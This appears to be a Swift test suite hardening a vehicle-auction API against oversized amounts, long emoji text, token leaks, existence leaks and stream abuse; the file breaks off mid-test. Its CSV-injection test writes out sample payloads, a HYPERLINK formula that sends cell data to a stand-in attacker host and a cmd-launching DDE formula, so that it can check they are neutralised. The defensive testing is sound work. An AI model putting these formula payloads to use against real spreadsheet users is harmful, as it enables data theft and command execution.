import Foundation
@testable import GavelAPI
import GavelWorkflows
import GavelCore
import GavelStore
import HTTPTypes
import PostgresNIO
import Testing

/// Issue 13: each defect found by trying Gavel as a new user and as an attacker, with
/// the test that failed before its fix (Docs/reliability.md lists them).
@Suite("Hardening: no input jams a lot, crashes a route or leaks a secret")
struct HardeningTests {
    static let idempotencyKey = HTTPField.Name("Idempotency-Key")!

    // MARK: 1. Bounds at the input, and a closer that sets aside what it cannot close

    @Test("every amount a caller sends is bounded (bids, prices, expenses, payments, balances, liens: 10^12; fixed fees 10^10; per diem 10^9), and nothing is stored past it")
    func inputBounds() async throws {
        try await withGavel { gavel in
            let lot = try await OpenLot.start(gavel, bidders: 1, format: "sealed")
            let disposal = lot.disposal
            let over = Money.inputMaximum + 1
            var refused: [(String, Harness.Reply)] = []
            refused.append(("bid", try await lot.bid(0, over)))
            refused.append(("docFee", try await gavel.request(
                .patch, "/v1/consignors/\(disposal.consignorId)/policy", token: gavel.adminToken,
                json: #"{"fees": {"docFee": \#(Money.feeMaximum + 1)}}"#)))
            refused.append(("expense", try await gavel.request(
                .post, "/v1/cases/\(disposal.caseId)/expenses", token: lot.finance.token,
                json: #"{"kind": "storage", "amount": \#(over), "incurredOn": "2026-11-01"}"#)))
            var perDiem = Disposal.caseBody(consignorId: disposal.consignorId, loanNumber: "LN-PERDIEM")
            perDiem = perDiem.replacingOccurrences(of: #""perDiemInterest": 1500"#, with: #""perDiemInterest": \#(Money.perDiemMaximum + 1)"#)
            refused.append(("perDiem", try await gavel.request(.post, "/v1/cases", token: disposal.manager.token, json: perDiem)))
            let lien = Disposal.caseBody(consignorId: disposal.consignorId, loanNumber: "LN-LIEN")
                .replacingOccurrences(of: #""amount": 300000"#, with: #""amount": \#(over)"#)
            refused.append(("lien", try await gavel.request(.post, "/v1/cases", token: disposal.manager.token, json: lien)))
            let vehicleId = try await disposal.addVehicle(vin: "JH4KA7561PC008269")
            refused.append(("manual appraisal", try await gavel.request(
                .post, "/v1/vehicles/\(vehicleId)/appraisals", token: disposal.manager.token,
                json: #"{"valuationDate": "2026-11-01", "conditionGrade": 3.0, "marketValue": \#(over), "liquidationValue": 1, "reason": "auction data"}"#)))
            for (what, reply) in refused {
                #expect(reply.status == .unprocessableContent, "\(what): \(reply.text)")
                #expect(try reply.problemCode == "amount-out-of-range", "\(what): \(reply.text)")
            }
            #expect(try await gavel.count("lot_maxima") == 0)
            #expect(try await gavel.count("expenses") == 0)
            #expect(try await gavel.count("cases") == 1)
            #expect(try await gavel.count("appraisals WHERE vehicle_id = '\(vehicleId)'") == 0)
            // At the bound itself, the bid is taken: the sealed lot's invoice still fits.
            #expect(try await lot.bid(0, Money.inputMaximum).status == .created)
            // Many liens, each within the bound, whose sum passes 10^13: refused by their total.
            let liens = (1...11).map { #"{"name": "Bank \#($0)", "amount": \#(Money.inputMaximum), "priority": \#($0), "eligible": true}"# }
            let many = Disposal.caseBody(consignorId: disposal.consignorId, loanNumber: "LN-MANY")
                .replacingOccurrences(
                    of: #"[{"name": "Second Bank", "amount": 300000, "priority": 2, "eligible": true}]"#,
                    with: "[" + liens.joined(separator: ",") + "]")
            let manyReply = try await gavel.request(.post, "/v1/cases", token: disposal.manager.token, json: many)
            #expect(try manyReply.problemCode == "amount-out-of-range")
            #expect(try Self.fields(manyReply).contains("lienholders"))
            // 10^20 is out of range, not "not an integer".
            let huge = Disposal.caseBody(consignorId: disposal.consignorId, loanNumber: "LN-HUGE")
                .replacingOccurrences(of: #""principal": 6000000"#, with: #""principal": 100000000000000000000"#)
            let hugeReply = try await gavel.request(.post, "/v1/cases", token: disposal.manager.token, json: huge)
            #expect(try hugeReply.problemCode == "amount-out-of-range")
            #expect(!hugeReply.text.contains("must be an integer"), "\(hugeReply.text)")
        }
    }

    // MARK: 2. Valid JSON is never a 500

    static let family = String(repeating: "\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}", count: 200)

    @Test("text is measured in code points as PostgreSQL does: 200 family emoji (1 000 code points) are 422 on every text field, never 500")
    func codePoints() async throws {
        try await withGavel { gavel in
            let lot = try await OpenLot.start(gavel, bidders: 1)
            let disposal = lot.disposal
            #expect(Self.family.count == 200 && Self.family.unicodeScalars.count == 1_000)
            let long = Self.family
            let bidder2 = try await gavel.createUser(.bidder, name: "Dealer 2")
            let cases = Disposal.caseBody(consignorId: disposal.consignorId, loanNumber: "LN-EMOJI")
                .replacingOccurrences(of: "Wang Li", with: long)
            let attempts: [(String, Harness.Reply)] = [
                ("consignor", try await gavel.request(.post, "/v1/consignors", token: gavel.adminToken, json: #"{"name": "\#(long)"}"#)),
                ("user", try await gavel.request(.post, "/v1/users", token: gavel.adminToken, json: #"{"name": "\#(long)", "role": "bidder"}"#)),
                ("case", try await gavel.request(.post, "/v1/cases", token: disposal.manager.token, json: cases)),
                ("deposit", try await gavel.request(
                    .post, "/v1/lots/\(lot.lotId)/deposits", token: lot.finance.token,
                    json: #"{"bidderId": "\#(bidder2.id)", "amount": 590000, "reference": "\#(long)"}"#)),
                ("expense", try await gavel.request(
                    .post, "/v1/cases/\(disposal.caseId)/expenses", token: lot.finance.token,
                    json: #"{"kind": "storage", "amount": 1000, "incurredOn": "2026-11-01", "vendor": "\#(long)"}"#)),
                ("bank line", try await gavel.request(
                    .post, "/v1/reconciliation/bank-lines", token: lot.finance.token,
                    json: "2026-11-20,100.00,\(long),Bank\n", headers: [.contentType: "text/csv"])),
                ("bank line with NUL", try await gavel.request(
                    .post, "/v1/reconciliation/bank-lines", token: lot.finance.token,
                    json: "2026-11-20,100.00,REF\u{0}1,Bank\n", headers: [.contentType: "text/csv"])),
            ]
            for (what, reply) in attempts {
                #expect(reply.status == .unprocessableContent, "\(what): \(reply.text)")
            }
            #expect(try await gavel.count("consignors") == 1)
            #expect(try await gavel.count("cases") == 1)
            #expect(try await gavel.count("deposits") == 1)
            #expect(try await gavel.count("expenses") == 0)
            #expect(try await gavel.count("bank_lines") == 0)
            // 200 code points fit.
            let fits = String(repeating: "\u{1F697}", count: 200)
            #expect(try await gavel.request(.post, "/v1/consignors", token: gavel.adminToken, json: #"{"name": "\#(fits)"}"#).status == .created)
        }
    }

    @Test("appraisals whose comparables or repairs pass the bound are 422 naming them")
    func appraisalBounds() async throws {
        try await withGavel { gavel in
            let disposal = try await Disposal.start(gavel)
            let vehicleId = try await disposal.addVehicle()
            // A comparable 29 model years older than the 2019 vehicle is worth 4.48 times its price here.
            let old = #"{"price": \#(Money.inputMaximum), "year": 1990, "mileageKm": 86000, "soldOn": "2026-10-01"}"#
            let comparables = "[\(old)," + Disposal.vectorAComparables.dropFirst()
            let adjusted = try await gavel.request(
                .post, "/v1/vehicles/\(vehicleId)/appraisals", token: disposal.appraiser.token,
                json: #"{"valuationDate": "2026-11-01", "conditionGrade": 3.5, "damages": [], "comparables": \#(comparables)}"#)
            #expect(try adjusted.problemCode == "amount-out-of-range", "\(adjusted.text)")
            #expect(try Self.fields(adjusted) == ["comparables[0]"])
            let damages = (0..<11).map { #"{"item": "panel \#($0)", "repairCost": 100000000000}"# }.joined(separator: ",")
            let repairs = try await gavel.request(
                .post, "/v1/vehicles/\(vehicleId)/appraisals", token: disposal.appraiser.token,
                json: #"{"valuationDate": "2026-11-01", "conditionGrade": 3.5, "damages": [\#(damages)], "comparables": \#(Disposal.vectorAComparables)}"#)
            #expect(try repairs.problemCode == "amount-out-of-range", "\(repairs.text)")
            #expect(try Self.fields(repairs) == ["damages"])
            #expect(try await gavel.count("appraisals") == 0)
        }
    }

    @Test("a settlement whose totals would pass 10^13 is 422 naming the real field: expenses, deficiency or the date's interest")
    func settlementBounds() async throws {
        try await withGavel { gavel in
            let disposal = try await Disposal.start(gavel)
            let vehicleId = try await disposal.addVehicle()
            let finance = try await gavel.createUser(.finance, name: "Finance")
            // Nine expenses at the input bound: 9 x 10^12, within 10^13.
            for index in 0..<9 {
                let reply = try await gavel.request(
                    .post, "/v1/cases/\(disposal.caseId)/expenses", token: finance.token,
                    json: #"{"kind": "storage", "amount": \#(Money.inputMaximum), "incurredOn": "2026-11-0\#(index + 1)"}"#)
                #expect(reply.status == .created, "\(reply.text)")
            }
            // A tenth and an eleventh: the first fits exactly (10^13), the second passes it.
            #expect(try await gavel.request(
                .post, "/v1/cases/\(disposal.caseId)/expenses", token: finance.token,
                json: #"{"kind": "storage", "amount": \#(Money.inputMaximum), "incurredOn": "2026-11-10"}"#).status == .created)
            let past = try await gavel.request(
                .post, "/v1/cases/\(disposal.caseId)/expenses", token: finance.token,
                json: #"{"kind": "storage", "amount": 1, "incurredOn": "2026-11-10"}"#)
            #expect(try past.problemCode == "amount-out-of-range")
            #expect(try Self.fields(past) == ["amount"])
            // The vehicle went back to the lender (issue 15 adds the route); nothing was sold.
            try await gavel.sql { connection in
                try await connection.query(
                    "UPDATE vehicles SET status = 'returned', disposal_reason = 'test: handed back' WHERE id = \(UUID(uuidString: vehicleId)!)", logger: quietLogger)
            }
            // Expenses 10^13 unpaid plus the obligation: the deficiency passes the bound.
            let deficiency = try await gavel.request(
                .post, "/v1/cases/\(disposal.caseId)/settlement", token: finance.token, json: #"{"settlementDate": "2026-11-20"}"#)
            #expect(try deficiency.problemCode == "amount-out-of-range", "\(deficiency.text)")
            #expect(try Self.fields(deficiency) == ["deficiency"])
            // An expense slipped in by SQL past the bound: the answer names the expenses.
            try await gavel.sql { connection in
                try await connection.query(
                    """
                    INSERT INTO expenses (id, case_id, kind, amount, incurred_on, recorded_by)
                    SELECT gen_random_uuid(), case_id, kind, 1, incurred_on, recorded_by FROM expenses LIMIT 1
                    """, logger: quietLogger)
            }
            let expenses = try await gavel.request(
                .post, "/v1/cases/\(disposal.caseId)/settlement", token: finance.token, json: #"{"settlementDate": "2026-11-20"}"#)
            #expect(try Self.fields(expenses) == ["expenses"], "\(expenses.text)")
            #expect(try await gavel.count("settlement_statements") == 0)
        }
    }

    @Test("accepting a below-reserve lot whose invoice would pass 10^13 is 422, and the lot still waits")
    func acceptanceBound() async throws {
        try await withGavel { gavel in
            let lot = try await OpenLot.start(gavel, bidders: 1)
            #expect(try await lot.bid(0, 6_000_000).status == .created)
            try await LotEventsTests.endNow(gavel, lot.lotId)
            #expect(try await ClosingTests.waitForClose(gavel, lot.lotId)["status"] == .string("pending-approval"))
            try await gavel.sql { connection in
                try await connection.query(
                    "UPDATE lots SET hammer_price = 9999999900000 WHERE id = \(UUID(uuidString: lot.lotId)!)", logger: quietLogger)
            }
            let reply = try await gavel.request(
                .post, "/v1/lots/\(lot.lotId)/decision", token: lot.disposal.manager.token, json: #"{"accept": true}"#)
            #expect(reply.status == .unprocessableContent, "\(reply.text)")
            #expect(try reply.problemCode == "amount-out-of-range")
            #expect(try await gavel.count("lots WHERE id = '\(lot.lotId)' AND status = 'pending-approval'") == 1)
            #expect(try await gavel.count("invoices") == 0)
        }
    }

    static func fields(_ reply: Harness.Reply) throws -> [String] {
        (try reply.json["errors"]?.elements ?? []).compactMap { if case .string(let field) = $0["field"] { field } else { nil } }
    }

    // MARK: 3. No formula in a CSV, and headers on every page

    /// A case settled with nothing sold (its vehicle returned by SQL until issue 15's route),
    /// whose lienholders and credits have the given names.
    static func settledCase(
        _ gavel: Harness, lienholder: String = "Second Bank", credit: String = "rebate", vin: String = "2HGES16555H591293"
    ) async throws
        -> (disposal: Disposal, finance: (id: String, token: String), vehicleId: String)
    {
        let consignor = try await gavel.createConsignor()
        let manager = try await gavel.createUser(.manager, consignorId: consignor, name: "Manager")
        let body = Disposal.caseBody(consignorId: consignor)
            .replacingOccurrences(of: #""name": "Second Bank""#, with: #""name": \#(JSONText.encode(JSONValue.string(lienholder)))"#)
            .replacingOccurrences(of: #""label": "unearned interest rebate""#, with: #""label": \#(JSONText.encode(JSONValue.string(credit)))"#)
        let created = try await gavel.request(.post, "/v1/cases", token: manager.token, json: body)
        guard created.status == .created else { throw TestSetupError("case: \(created.text)") }
        let disposal = Disposal(
            gavel: gavel, consignorId: consignor, manager: manager, appraiser: manager, caseId: try created.string("id"))
        let vehicleId = try await disposal.addVehicle(vin: vin)
        try await gavel.sql { connection in
            try await connection.query(
                "UPDATE vehicles SET status = 'returned', disposal_reason = 'test: handed back' WHERE id = \(UUID(uuidString: vehicleId)!)", logger: quietLogger)
        }
        let finance = try await gavel.createUser(.finance, name: "Finance")
        let settled = try await gavel.request(
            .post, "/v1/cases/\(disposal.caseId)/settlement", token: finance.token, json: #"{"settlementDate": "2026-11-20"}"#)
        guard settled.status == .created else { throw TestSetupError("settlement: \(settled.text)") }
        return (disposal, finance, vehicleId)
    }

    @Test("names and labels that a spreadsheet would run reach the statement CSV as text; numbers stay numbers")
    func csvInjection() async throws {
        try await withGavel { gavel in
            let formula = #"=HYPERLINK("http://evil.example/?"&A1,"Click")"#
            let (disposal, finance, _) = try await Self.settledCase(gavel, lienholder: formula, credit: "@SUM(1+1)")
            let csv = try await gavel.request(
                .get, "/v1/cases/\(disposal.caseId)/settlement", token: finance.token, headers: [.accept: "text/csv"])
            #expect(csv.status == .ok)
            #expect(csv.headers[.xContentTypeOptions] == "nosniff")
            let cells = csv.text.split(separator: "\n").flatMap { $0.split(separator: ",", omittingEmptySubsequences: false) }
                .map { $0.hasPrefix("\"") ? String($0.dropFirst()) : String($0) }
            for cell in cells {
                guard let first = cell.unicodeScalars.first else { continue }
                let number = cell.wholeMatch(of: /-?[0-9]+/) != nil
                #expect(number || !"=+-@\t\r".unicodeScalars.contains(first), "a cell starts a formula: \(cell)")
            }
            #expect(csv.text.contains("'=HYPERLINK"))
            #expect(csv.text.contains("'@SUM(1+1)"))
            // The explanation's negative amounts are still numbers.
            #expect(csv.text.contains(",-") || !csv.text.contains("'-"), "\(csv.text)")
            // The rule itself, cell by cell.
            for (cell, expected) in [("=1+2", "'=1+2"), ("+1", "'+1"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
                                     ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("-1555000", "-1555000"),
                                     ("525000", "525000"), ("Second Bank", "Second Bank"), ("", "")] {
                #expect(CSVDocument.neutralised(cell) == expected, "\(cell)")
            }
            let page = try await gavel.request(
                .get, "/v1/cases/\(disposal.caseId)/settlement", token: finance.token, headers: [.accept: "text/html"])
            #expect(page.headers[.contentSecurityPolicy]?.contains("default-src 'none'") == true)
            #expect(page.headers[.xContentTypeOptions] == "nosniff")
            // One sentence on one line: no stray break inside it.
            #expect(page.text.contains(
                "Wang Li is liable for the deficiency. Zhang Wei, a general guarantor, is liable only for what the borrower cannot pay."),
                "\(page.text)")
            #expect(try await gavel.request(.get, "/health").headers[.xContentTypeOptions] == "nosniff")
        }
    }

    // MARK: 4. No secret in a stored answer; stored answers expire

    @Test("a replayed POST /v1/users withholds the token; the stored row cannot give it back; stored answers expire")
    func tokenNotStored() async throws {
        try await withGavel(configure: { $0.idempotencyLifetime = .seconds(3_600) }) { gavel in
            let body = #"{"name": "Dealer 7", "role": "bidder"}"#
            let first = try await gavel.request(.post, "/v1/users", token: gavel.adminToken, json: body, headers: [Self.idempotencyKey: "user-7"])
            #expect(first.status == .created)
            let token = try first.string("token")
            let replay = try await gavel.request(.post, "/v1/users", token: gavel.adminToken, json: body, headers: [Self.idempotencyKey: "user-7"])
            #expect(replay.status == .created)
            #expect(try replay.json["token"] == .null)
            #expect(try replay.json["tokenWithheld"] == .bool(true))
            #expect(try replay.string("id") == first.string("id"))
            // What a dump holds, opened with the guessable key, is the replay: no token in it.
            let stored = try await gavel.sql { connection -> [String] in
                var rows: [String] = []
                for try await row in try await connection.query(
                    "SELECT user_id::text || key || request_sha256 || coalesce(response_body, '') FROM idempotency_keys",
                    logger: quietLogger
                ).decode(String.self) { rows.append(row) }
                return rows
            }
            #expect(!stored.isEmpty && !stored.contains { $0.contains(token) })
            #expect(try await gavel.request(.get, "/v1/lots", token: token).status == .ok, "the token itself works")
            // Past its lifetime a stored answer is gone: the key is free again, and the sweep removes it.
            try await gavel.sql { connection in
                try await connection.query(
                    "UPDATE idempotency_keys SET created_at = now() - interval '2 hours'", logger: quietLogger)
            }
            let other = try await gavel.request(
                .post, "/v1/users", token: gavel.adminToken, json: #"{"name": "Dealer 8", "role": "bidder"}"#,
                headers: [Self.idempotencyKey: "user-7"])
            #expect(other.status == .created, "\(other.text)")
            #expect(try other.string("id") != first.string("id"))
            // In one transaction: the application's own sweep must not see the key aged first.
            try await gavel.sql { connection in
                try await connection.query("BEGIN", logger: quietLogger)
                try await connection.query("UPDATE idempotency_keys SET created_at = now() - interval '2 hours'", logger: quietLogger)
                #expect(try await IdempotencyRepository.expire(lifetime: .seconds(3_600), limit: 10, on: connection, logger: quietLogger) == 1)
                try await connection.query("COMMIT", logger: quietLogger)
            }
            #expect(try await gavel.count("idempotency_keys") == 0)
        }
    }

    // MARK: 5. Event streams per caller and per instance

    // MARK: 6. A settled case takes no more

    @Test("a settled case refuses new vehicles and expenses with 409 case-settled, and nothing is written")
    func settledCaseRefuses() async throws {
        try await withGavel { gavel in
            let (disposal, finance, _) = try await Self.settledCase(gavel)
            let vehicles = try await gavel.count("vehicles")
            let vehicle = try await gavel.request(
                .post, "/v1/cases/\(disposal.caseId)/vehicles", token: disposal.manager.token,
                json: Disposal.vehicleBody(vin: "JH4KA7561PC008269"))
            #expect(vehicle.status == .conflict)
            #expect(try vehicle.problemCode == "case-settled")
            let expense = try await gavel.request(
                .post, "/v1/cases/\(disposal.caseId)/expenses", token: finance.token,
                json: #"{"kind": "storage", "amount": 1000, "incurredOn": "2026-11-01"}"#)
            #expect(expense.status == .conflict)
            #expect(try expense.problemCode == "case-settled")
            #expect(try await gavel.count("vehicles") == vehicles)
            #expect(try await gavel.count("expenses") == 0)
        }
    }

    // MARK: 7. The query string is part of an idempotent request

    @Test("the same Idempotency-Key with another query string is another request: 422 idempotency-key-reused")
    func idempotencyQuery() async throws {
        try await withGavel { gavel in
            let finance = try await gavel.createUser(.finance, name: "Finance")
            let csv = "2026-11-20,100.00,REF-Q,Bank\n"
            let gbp = try await gavel.request(
                .post, "/v1/reconciliation/bank-lines?currency=GBP", token: finance.token, json: csv,
                headers: [.contentType: "text/csv", Self.idempotencyKey: "upload-1"])
            #expect(gbp.status == .ok, "\(gbp.text)")
            let jpy = try await gavel.request(
                .post, "/v1/reconciliation/bank-lines?currency=JPY", token: finance.token, json: csv,
                headers: [.contentType: "text/csv", Self.idempotencyKey: "upload-1"])
            #expect(try jpy.problemCode == "idempotency-key-reused", "\(jpy.text)")
            let again = try await gavel.request(
                .post, "/v1/reconciliation/bank-lines?currency=GBP", token: finance.token, json: csv,
                headers: [.contentType: "text/csv", Self.idempotencyKey: "upload-1"])
            #expect(again.text == gbp.text)
            #expect(try await gavel.count("bank_lines") == 1)
        }
    }

    // MARK: 8. Existence does not leak

    @Test("another consignor's vehicle and a missing one answer alike (404); a lot hidden from bidders and a missing one too")
    func existence() async throws {
        try await withGavel { gavel in
            let disposal = try await Disposal.start(gavel)
            let (vehicleId, _) = try await disposal.appraisedVehicle()
            let otherConsignor = try await gavel.createConsignor("Other Finance")
            let otherManager = try await gavel.createUser(.manager, consignorId: otherConsignor, name: "Other manager")
            let theirs = try await gavel.request(.post, "/v1/lots", token: otherManager.token, json: disposal.lotBody(vehicleId: vehicleId))
            let missing = try await gavel.request(
                .post, "/v1/lots", token: otherManager.token, json: disposal.lotBody(vehicleId: UUID().uuidString.lowercased()))
            #expect(theirs.status == .notFound && missing.status == .notFound, "\(theirs.text) \(missing.text)")
            #expect(try theirs.problemCode == missing.problemCode)
            // A lot ten days ahead is not announced to bidders yet.
            let hidden = try await gavel.request(
                .post, "/v1/lots", token: disposal.manager.token, json: disposal.lotBody(vehicleId: vehicleId, startsIn: 10 * 86_400))
            #expect(hidden.status == .created, "\(hidden.text)")
            let bidder = try await gavel.createUser(.bidder, name: "Dealer")
            let onHidden = try await gavel.request(
                .post, "/v1/lots/\(try hidden.string("id"))/bids", token: bidder.token, json: #"{"maxAmount": 6000000}"#)
            let onMissing = try await gavel.request(
                .post, "/v1/lots/\(UUID().uuidString.lowercased())/bids", token: bidder.token, json: #"{"maxAmount": 6000000}"#)
            #expect(onHidden.status == .notFound && onMissing.status == .notFound, "\(onHidden.text) \(onMissing.text)")
            #expect(try onHidden.problemCode == onMissing.problemCode)
        }
    }

    // MARK: 9. Disconnects are not server errors; bodies have a deadline

    // MARK: 10. The smaller ones

    @Test("smaller defects: a clean invoice-not-due message, ISO 4217 only, no deposit from a barred bidder, no future balance or valuation date")
    func smaller() async throws {
        try await withGavel { gavel in
            let sold = try await SoldLot.start(gavel)
            let early = try await gavel.request(.post, "/v1/invoices/\(sold.invoiceId)/default", token: sold.open.finance.token)
            #expect(try early.problemCode == "invoice-not-due")
            let detail = try early.string("detail")
            #expect(!detail.contains("string(") && detail.wholeMatch(of: /the invoice is not due until \d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ/) != nil, "\(detail)")

            let xyz = try await gavel.request(.post, "/v1/consignors", token: gavel.adminToken, json: #"{"name": "X", "currency": "XYZ"}"#)
            #expect(xyz.status == .unprocessableContent)
            #expect(try Self.fields(xyz) == ["currency"])
            #expect(try await gavel.request(.post, "/v1/consignors", token: gavel.adminToken, json: #"{"name": "Y", "currency": "JPY"}"#).status == .created)

            let today = Scope.day(of: Date())
            let future = today.adding(days: 2).description
            let body = Disposal.caseBody(consignorId: sold.open.disposal.consignorId, loanNumber: "LN-FUTURE")
                .replacingOccurrences(of: "2026-10-01", with: future)
            let futureCase = try await gavel.request(.post, "/v1/cases", token: sold.open.disposal.manager.token, json: body)
            #expect(try Self.fields(futureCase) == ["balances.asOf"], "\(futureCase.text)")
            let ancient = try await gavel.request(
                .post, "/v1/cases", token: sold.open.disposal.manager.token,
                json: body.replacingOccurrences(of: future, with: "1979-12-31"))
            #expect(try Self.fields(ancient) == ["balances.asOf"], "\(ancient.text)")
            let vehicleId = try await sold.open.disposal.addVehicle(vin: "JH4KA7561PC008269")
            let appraisal = try await gavel.request(
                .post, "/v1/vehicles/\(vehicleId)/appraisals", token: sold.open.disposal.appraiser.token,
                json: Disposal.vectorAAppraisal.replacingOccurrences(of: #""valuationDate": "2026-11-01""#, with: #""valuationDate": "\#(future)""#))
            #expect(try Self.fields(appraisal) == ["valuationDate"], "\(appraisal.text)")

            // The winner defaults; on the next round finance cannot take its deposit.
            #expect(try await sold.declareDefaultAsItFallsDue().status == .ok)
            let relist = try await gavel.request(
                .post, "/v1/lots/\(sold.open.lotId)/relist", token: sold.open.disposal.manager.token,
                json: #"{"startsAt": "\#(Disposal.timestamp(-60))", "endsAt": "\#(Disposal.timestamp(86_400))"}"#)
            let deposit = try await gavel.request(
                .post, "/v1/lots/\(try relist.string("id"))/deposits", token: sold.open.finance.token,
                json: #"{"bidderId": "\#(sold.winner.id)", "amount": 480000, "reference": "BARRED"}"#)
            #expect(try deposit.problemCode == "bidder-barred")
            #expect(try await gavel.count("deposits WHERE reference = 'BARRED'") == 0)
        }
    }

    @Test("fees are frozen on the lot when it is created and shown to bidders; a later policy change does not alter its invoice")
    func frozenFees() async throws {
        try await withGavel { gavel in
            let lot = try await OpenLot.start(gavel, bidders: 3)
            let shown = try await gavel.request(.get, "/v1/lots/\(lot.lotId)", token: lot.bidders[0].token)
            #expect(try shown.json["fees"] == Policy.defaults.fees.json)
            let patch = try await gavel.request(
                .patch, "/v1/consignors/\(lot.disposal.consignorId)/policy", token: gavel.adminToken,
                json: #"{"fees": {"docFee": 99000, "buyerPremiumBp": 900, "paymentDueDays": 9}}"#)
            #expect(patch.status == .ok, "\(patch.text)")
            for (index, amount) in [(0, 6_500_000), (1, 6_200_000), (2, 8_000_000), (0, 8_000_000)] as [(Int, Int64)] {
                #expect(try await lot.bid(index, amount).status == .created)
            }
            try await LotEventsTests.endNow(gavel, lot.lotId)
            _ = try await ClosingTests.waitForClose(gavel, lot.lotId)
            let invoice = try await gavel.request(.get, "/v1/lots/\(lot.lotId)/invoice", token: lot.finance.token).json
            // Vector D, at the fees the lot was created with.
            #expect(invoice["docFee"] == .integer(30_000))
            #expect(invoice["buyerPremium"] == .integer(400_000))
            #expect(invoice["total"] == .integer(8_430_000))
            // Due three days after the close, not the nine the policy now says.
            #expect(try await gavel.count(
                "invoices i JOIN lots l ON l.id = i.lot_id WHERE abs(extract(epoch FROM i.due_at - l.closed_at) - 3 * 86400) < 60") == 1)
        }
    }
}

extension RealTime {
    @Suite("Hardening, in real time")
    struct HardeningTiming {
        @Test("a lot that can never close is set aside as close-failed (logged, counted once); the 200 due lots behind it close on time")
        func closerSetsAside() async throws {
            try await withGavel { gavel in
                let lot = try await OpenLot.start(gavel, bidders: 1)
                #expect(try await lot.bid(0, 8_000_000).status == .created)
                let template = UUID(uuidString: lot.lotId)!
                let winner = UUID(uuidString: lot.bidders[0].id)!
                let jammed = try await gavel.sql { connection -> UUID in
                    // 201 lots led by the bidder, ending together in two seconds.
                    try await LotFactory.cloneLots(on: connection, from: template, count: 201, endingIn: 2, soldTo: winner)
                    // One of them, first in the queue, a sealed lot whose one amount is 10^13:
                    // its invoice would pass the bound (only SQL can make such a lot now).
                    var jammed = UUID()
                    for try await id in try await connection.query(
                        """
                        UPDATE lots SET format = 'sealed', ends_at = ends_at - interval '1 second'
                        WHERE id = (SELECT id FROM lots WHERE id <> \(template) ORDER BY seq LIMIT 1) RETURNING id
                        """, logger: quietLogger
                    ).decode(UUID.self) { jammed = id }
                    try await connection.query(
                        "UPDATE lot_maxima SET amount = \(Money.maximum) WHERE lot_id = \(jammed)", logger: quietLogger)
                    return jammed
                }
                let deadline = ContinuousClock.now + .seconds(10)
                while ContinuousClock.now < deadline,
                      try await gavel.count("lots WHERE id <> '\(template)' AND status = 'sold'") < 200 {
                    try await Task.sleep(for: .milliseconds(100))
                }
                #expect(try await gavel.count("lots WHERE id <> '\(template)' AND status = 'sold'") == 200)
                #expect(try await gavel.count("lots WHERE status = 'sold' AND closed_at > ends_at + interval '3 seconds'") == 0,
                        "a lot closed more than 3 s after its end")
                #expect(try await gavel.count("invoices") == 200)
                #expect(try await gavel.count(
                    "lots WHERE id = '\(jammed)' AND status = 'close-failed' AND close_failure LIKE '%would pass%'") == 1)
                #expect(try await gavel.count("invoices WHERE lot_id = '\(jammed)'") == 0)
                #expect(try await gavel.count("audit_log WHERE entity_id = '\(jammed)' AND action = 'lot.close-failed'") == 1)
                // It says so to everyone who looks, and it is not tried again.
                // (The list, since the factory's vehicles carry made-up VINs that a lot's page would not read.)
                let shown = try await gavel.request(.get, "/v1/lots?status=close-failed", token: gavel.adminToken)
                #expect(try shown.json["items"]?.elements?.compactMap { $0["id"] } == [.string(jammed.uuidString.lowercased())], "\(shown.text)")
                try await Task.sleep(for: .seconds(1.5))
                let metrics = try await gavel.request(.get, "/metrics").text
                #expect(metrics.contains("gavel_closer_lots_set_aside_total 1"), "\(metrics.split(separator: "\n").filter { $0.contains("set_aside") })")
                #expect(try await gavel.count("audit_log WHERE entity_id = '\(jammed)' AND action = 'lot.close-failed'") == 1)
            }
        }

        @Test("a closing failure that may pass is retried behind the lots that never failed, and set aside after five")
        func transientCloseFailures() async throws {
            try await withGavel { gavel in
                let lot = try await OpenLot.start(gavel, bidders: 1)
                #expect(try await lot.bid(0, 8_000_000).status == .created)
                try await gavel.sql { connection in
                    try await ClosingTests.refuseInvoice(of: UUID(uuidString: lot.lotId)!, on: connection)
                }
                try await LotEventsTests.endNow(gavel, lot.lotId)
                let deadline = ContinuousClock.now + .seconds(10)
                while ContinuousClock.now < deadline, try await gavel.count("lots WHERE id = '\(lot.lotId)' AND status = 'close-failed'") == 0 {
                    try await Task.sleep(for: .milliseconds(100))
                }
                #expect(try await gavel.count(
                    "lots WHERE id = '\(lot.lotId)' AND status = 'close-failed' AND close_attempts = 5 AND close_failure LIKE '%P0001%'") == 1)
                #expect(try await gavel.count("lot_events WHERE lot_id = '\(lot.lotId)' AND kind = 'closed' AND status = 'close-failed'") == 1)
            }
        }

        @Test("event streams are limited per user and per instance (429 with Retry-After); a closed stream frees its place; none holds a connection")
        func streamLimits() async throws {
            try await withGavel(
                live: true, eventHeartbeat: .milliseconds(200), configure: { $0.eventStreamsPerCaller = 2; $0.eventStreamsPerInstance = 3 }
            ) { gavel in
                let lot = try await OpenLot.start(gavel, bidders: 2)
                let first = try LotEventsTests.watch(gavel, lot.lotId, token: lot.bidders[0].token)
                let second = try LotEventsTests.watch(gavel, lot.lotId, token: lot.bidders[0].token)
                try await first.wait(for: "the first stream") { !$0.isEmpty }
                try await second.wait(for: "the second stream") { !$0.isEmpty }
                let third = try await gavel.request(.get, "/v1/lots/\(lot.lotId)/events", token: lot.bidders[0].token)
                #expect(third.status == .tooManyRequests)
                #expect(try third.problemCode == "rate-limited")
                #expect(third.headers[.retryAfter] == "5")
                // Another user still gets one, up to the instance's limit of three.
                let other = try LotEventsTests.watch(gavel, lot.lotId, token: lot.bidders[1].token)
                try await other.wait(for: "the other user's stream") { !$0.isEmpty }
                let full = try await gavel.request(.get, "/v1/lots/\(lot.lotId)/events", token: gavel.adminToken)
                #expect(full.status == .tooManyRequests)
                let metrics = try await gavel.request(.get, "/metrics").text
                #expect(metrics.contains("gavel_events_streams_open 3"))
                // Waiting streams hold no database connection.
                #expect(metrics.contains("gavel_db_pool_connections_in_use 0"), "\(metrics.split(separator: "\n").filter { $0.contains("pool") })")
                first.close()
                other.close()
                // The server learns a client left when it next writes to it: by the next heartbeat.
                try await Task.sleep(for: .seconds(1))
                let reopened = try LotEventsTests.watch(gavel, lot.lotId, token: lot.bidders[0].token)
                try await reopened.wait(for: "a stream after one closed") { !$0.isEmpty }
